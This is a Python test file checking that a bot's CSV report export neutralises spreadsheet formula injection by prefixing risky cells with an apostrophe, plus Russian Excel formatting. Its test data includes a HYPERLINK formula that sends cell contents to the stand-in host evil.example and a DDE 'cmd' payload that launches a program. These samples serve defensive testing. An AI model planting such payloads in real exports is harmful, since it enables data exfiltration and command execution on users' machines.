"""Report CSV files open in a spreadsheet without running what citizens typed."""

from __future__ import annotations

import csv
import io

import pytest

from bot.reporting.csv_export import table_csv
from bot.reporting.tables import Cell, Table


def _cells(cell: Cell) -> list[str]:
    text = table_csv(Table("t", "таблица", ("ячейка",), ((cell,),)))
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))
    return rows[1]


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('=HYPERLINK("http://evil.example/?x="&A1,"Нажмите")', "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Нажмите\")"),
        ("@SUM(1,1) ошибка", "'@SUM(1,1) ошибка"),
        ("+7 (999) 123-45-67 перезвоните", "'+7 (999) 123-45-67 перезвоните"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("＝1+1", "'＝1+1"),
        ("как получить выписку = срочно", "как получить выписку = срочно"),
        ("", ""),
        (None, ""),
        (-3, "-3"),
        (-0.25, "-0,25"),
        (42, "42"),
        ("-5", "-5"),
        ("+3,5", "+3,5"),
    ],
)  # fmt: skip
def test_a_cell_a_spreadsheet_would_run_gets_an_apostrophe(cell: Cell, written: str) -> None:
    assert _cells(cell) == [written]


def test_a_russian_excel_opens_the_table_in_columns_with_numbers() -> None:
    """A Russian Excel splits CSV rows on ";" and reads "0,78" as a number: with "," the whole
    row stood in the first column (as `kb export`'s files never did)."""
    table = Table(
        "t", "таблица", ("день", "вопросов", "доля без людей"), (("2025-01-10", 4, 0.78),)
    )
    assert table_csv(table) == "\ufeffдень;вопросов;доля без людей\r\n2025-01-10;4;0,78\r\n"
